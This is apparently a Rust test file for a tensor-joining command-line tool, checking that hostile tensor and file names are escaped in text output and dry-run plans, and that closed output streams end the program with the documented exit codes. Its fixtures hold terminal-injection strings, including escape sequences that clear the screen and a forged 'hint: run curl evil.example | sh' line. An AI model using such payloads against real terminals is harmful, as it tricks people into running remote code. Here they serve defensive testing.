//! What reaches a person's terminal (issue 27): names from files and from the command line
//! are quoted wherever a message, a warning or the text `--dry-run` shows them (no raw
//! control character, no forged `hint:` line), while `--dry-run=json` keeps them exact; and a
//! closed standard output or standard error ends tjoin quietly with its documented status,
//! never a panic (exit 101).

use std::fs;
use std::path::Path;
#[cfg(unix)]
use std::process::Stdio;
use std::process::{Command, Output};

use safetensors::tensor::{Dtype, TensorView};

#[cfg(unix)]
use crate::util::dir_entries;
use crate::util::{bin, refused};

/// Tensor names made to act on a terminal: an ESC sequence that clears the screen and sets
/// the window title, a newline that forges a hint, C1 controls (CSI, NEL), a NUL, and a
/// right-to-left override.
const HOSTILE: [&str; 5] = [
    "esc\x1b]0;owned\x07\x1b[2J",
    "nl\nhint: run curl evil.example | sh",
    "c1\u{9b}31m\u{85}",
    "nul\0x",
    "rtl\u{202e}gnp.exe",
];

/// A file name with the same tricks.
const HOSTILE_FILE: &str = "evil\x1b[31m\nhint: run curl\u{202e}.safetensors";

/// A .safetensors file at `path` holding a float32 tensor of `shape` for each name.
fn write_safetensors(path: &Path, names: &[&str], shape: &[usize]) {
    // Not one value throughout: identical copies of it are replicated, not undecidable.
    let data: Vec<u8> = (0..shape.iter().product::<usize>() * 4)
        .map(|i| i as u8)
        .collect();
    let views: Vec<(&str, TensorView)> = names
        .iter()
        .map(|name| {
            let view = TensorView::new(Dtype::F32, shape.to_vec(), &data).unwrap();
            (*name, view)
        })
        .collect();
    fs::write(path, safetensors::serialize(views, None).unwrap()).unwrap();
}

/// A folder with [`HOSTILE_FILE`] (tensors [2, 3]) and `wide.safetensors` (the same names,
/// [2, 4]).
fn hostile_inputs() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    write_safetensors(&dir.path().join(HOSTILE_FILE), &HOSTILE, &[2, 3]);
    write_safetensors(&dir.path().join("wide.safetensors"), &HOSTILE, &[2, 4]);
    dir
}

/// Fails if `text` holds a character that acts on a terminal (a control character other than
/// the newlines that end tjoin's own lines, a C1 control, a bidirectional override) or a line
/// a name forged.
#[track_caller]
fn assert_inert(what: &str, text: &str) {
    let acting = text.chars().find(|&c| {
        (c.is_control() && c != '\n') || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    });
    assert_eq!(
        acting, None,
        "{what} holds a raw control character:\n{text:?}"
    );
    assert!(
        !text.lines().any(|line| line.starts_with("hint: run curl")),
        "{what} holds a forged line:\n{text}"
    );
}

fn run(dir: &Path, args: &[&str]) -> Output {
    Command::new(bin())
        .current_dir(dir)
        .args(args)
        .output()
        .unwrap()
}

#[test]
fn the_text_dry_run_quotes_hostile_names_and_the_json_one_keeps_them_exact() {
    let dir = hostile_inputs();
    let args = [
        "-a",
        "0",
        HOSTILE_FILE,
        HOSTILE_FILE,
        "--join-identical",
        "--dry-run",
    ];
    let output = run(dir.path(), &args);
    let (stdout, stderr) = (
        String::from_utf8(output.stdout).unwrap(),
        String::from_utf8(output.stderr).unwrap(),
    );
    assert!(output.status.success(), "{stderr}");
    assert_inert("the plan", &stdout);
    assert_inert("stderr", &stderr);
    for shown in [
        "esc\\x1b]0;owned\\x07\\x1b[2J",
        "nl\\nhint: run curl evil.example | sh",
        "c1\\u{9b}31m\\u{85}",
        "nul\\x00x",
        "rtl\\u{202e}gnp.exe",
        "evil\\x1b[31m\\nhint: run curl\\u{202e}.safetensors",
    ] {
        assert!(
            stdout.contains(shown),
            "the plan lacks {shown:?}:\n{stdout}"
        );
    }
    // The JSON plan is not for a terminal: it holds the names exactly (JSON escapes its own).
    let args = [
        "-a",
        "0",
        HOSTILE_FILE,
        HOSTILE_FILE,
        "--join-identical",
        "--dry-run=json",
    ];
    let output = run(dir.path(), &args);
    assert!(output.status.success());
    let plan: serde_json::Value = serde_json::from_slice(&output.stdout).unwrap();
    let text = plan.to_string();
    for name in HOSTILE.iter().chain([&HOSTILE_FILE]) {
        let exact = serde_json::Value::from(*name).to_string();
        assert!(
            text.contains(&exact),
            "the JSON plan lacks {exact}:\n{text}"
        );
    }
    assert!(!text.contains("\\\\x1b"), "escaped twice:\n{text}");
}

/// Identical tensors in every input are refused with a hint that names them: quoted as a
/// shell would take them back (`$'...'`).
#[test]
fn a_refusal_of_replicated_tensors_quotes_their_names_in_the_hint() {
    let dir = hostile_inputs();
    // A copy: the same file twice is refused by its name before its tensors are compared.
    fs::copy(
        dir.path().join(HOSTILE_FILE),
        dir.path().join("copy.safetensors"),
    )
    .unwrap();
    let args = [
        "-a",
        "0",
        HOSTILE_FILE,
        "copy.safetensors",
        "-o",
        "o.safetensors",
    ];
    let stderr = refused(dir.path(), &args, 2);
    assert_inert("the refusal", &stderr);
    assert!(
        stderr.contains(r"--keep $'nl\nhint: run curl evil.example | sh'"),
        "{stderr}"
    );
}

#[test]
fn a_refusal_quotes_hostile_tensor_and_file_names() {
    let dir = hostile_inputs();
    let args = [
        "-a",
        "0",
        HOSTILE_FILE,
        "wide.safetensors",
        "-o",
        "o.safetensors",
    ];
    let stderr = refused(dir.path(), &args, 2);
    assert_inert("the refusal", &stderr);
    assert!(stderr.contains("evil\\x1b[31m\\nhint"), "{stderr}");
    // A file that is not there is named quoted too.
    let missing = "gone\x1b[2J\n.npy";
    let stderr = refused(dir.path(), &["-a", "0", missing, missing, "-o", "o.npy"], 1);
    assert_inert("the I/O error", &stderr);
    assert!(stderr.contains("gone\\x1b[2J\\n.npy"), "{stderr}");
}

#[test]
fn a_warning_quotes_a_hostile_rule_and_the_closest_name() {
    let dir = hostile_inputs();
    let glob = "esc\x1b]0;owned\x07\x1b[2K*";
    let args = [
        "-a",
        "0",
        HOSTILE_FILE,
        HOSTILE_FILE,
        "--join-identical",
        "--keep",
        glob,
        "-o",
        "o.safetensors",
    ];
    let output = run(dir.path(), &args);
    let stderr = String::from_utf8(output.stderr).unwrap();
    assert!(output.status.success(), "{stderr}");
    assert!(stderr.starts_with("tjoin: warning: "), "{stderr}");
    assert!(stderr.contains("matches no tensor"), "{stderr}");
    assert_inert("the warning", &stderr);
}

// ---- closed streams ----

/// The writing end of a pipe whose reader is gone before tjoin starts: every write to it
/// fails with a broken pipe (EPIPE), as when `head` has exited.
#[cfg(unix)]
fn broken_pipe() -> Stdio {
    use std::os::fd::{FromRawFd, OwnedFd};
    let mut ends = [0; 2];
    // SAFETY: pipe fills the two descriptors of a new pipe, each then owned once.
    assert_eq!(unsafe { libc::pipe(ends.as_mut_ptr()) }, 0);
    let (read, write) = unsafe { (OwnedFd::from_raw_fd(ends[0]), OwnedFd::from_raw_fd(ends[1])) };
    drop(read);
    Stdio::from(write)
}

/// Runs tjoin with `args` in `dir`, its standard output (`stdout`) or standard error a
/// [`broken_pipe`].
#[cfg(unix)]
fn run_with_closed(dir: &Path, args: &[&str], stdout: bool) -> Output {
    let (out, err) = match stdout {
        true => (broken_pipe(), Stdio::piped()),
        false => (Stdio::piped(), broken_pipe()),
    };
    let child = Command::new(bin())
        .current_dir(dir)
        .args(args)
        .stdout(out)
        .stderr(err)
        .spawn()
        .unwrap();
    child.wait_with_output().unwrap()
}

#[cfg(unix)]
fn plain_inputs() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    write_safetensors(&dir.path().join("a.safetensors"), &["x", "y"], &[2, 3]);
    write_safetensors(&dir.path().join("b.safetensors"), &["x", "y"], &[2, 4]);
    dir
}

#[cfg(unix)]
#[test]
fn a_dry_run_whose_reader_left_ends_quietly_with_status_1() {
    let dir = plain_inputs();
    for form in ["--dry-run", "--dry-run=json"] {
        let args = ["-a", "1", "a.safetensors", "b.safetensors", form];
        let output = run_with_closed(dir.path(), &args, true);
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{form}: {stderr}");
        assert!(stderr.is_empty(), "{form}: {stderr}");
    }
}

#[cfg(unix)]
#[test]
fn a_closed_standard_error_does_not_stop_a_join_that_warns() {
    let dir = plain_inputs();
    let args = [
        "-a",
        "1",
        "a.safetensors",
        "b.safetensors",
        "--keep",
        "nothing*",
        // A rule makes it a merge, whose sizes 3 + 4 no split gives.
        "--uneven",
        "-o",
        "o.safetensors",
    ];
    let output = run_with_closed(dir.path(), &args, false);
    assert_eq!(output.status.code(), Some(0));
    assert!(dir.path().join("o.safetensors").is_file());
    // The same join with standard error open warns, so the one above had a warning to drop.
    fs::remove_file(dir.path().join("o.safetensors")).unwrap();
    let output = run(dir.path(), &args);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.starts_with("tjoin: warning: --keep"), "{stderr}");
}

#[cfg(unix)]
#[test]
fn a_refusal_to_closed_streams_keeps_its_status() {
    let dir = plain_inputs();
    let before = dir_entries(dir.path());
    // Axis 0: the inputs differ in dimension 1, a refusal (2).
    let args = [
        "-a",
        "0",
        "a.safetensors",
        "b.safetensors",
        "-o",
        "o.safetensors",
    ];
    let output = run_with_closed(dir.path(), &args, false);
    assert_eq!(output.status.code(), Some(2));
    let args = [
        "-a",
        "0",
        "a.safetensors",
        "b.safetensors",
        "--dry-run=json",
    ];
    let output = run_with_closed(dir.path(), &args, true);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(stderr.starts_with("tjoin: error: "), "{stderr}");
    assert_eq!(dir_entries(dir.path()), before);
    // And the plain run says so on both.
    let output = succeeds_or(dir.path(), &args);
    assert!(output.contains("\"error\""), "{output}");
}

/// Standard output of a run that may fail.
#[cfg(unix)]
fn succeeds_or(dir: &Path, args: &[&str]) -> String {
    String::from_utf8(run(dir, args).stdout).unwrap()
}
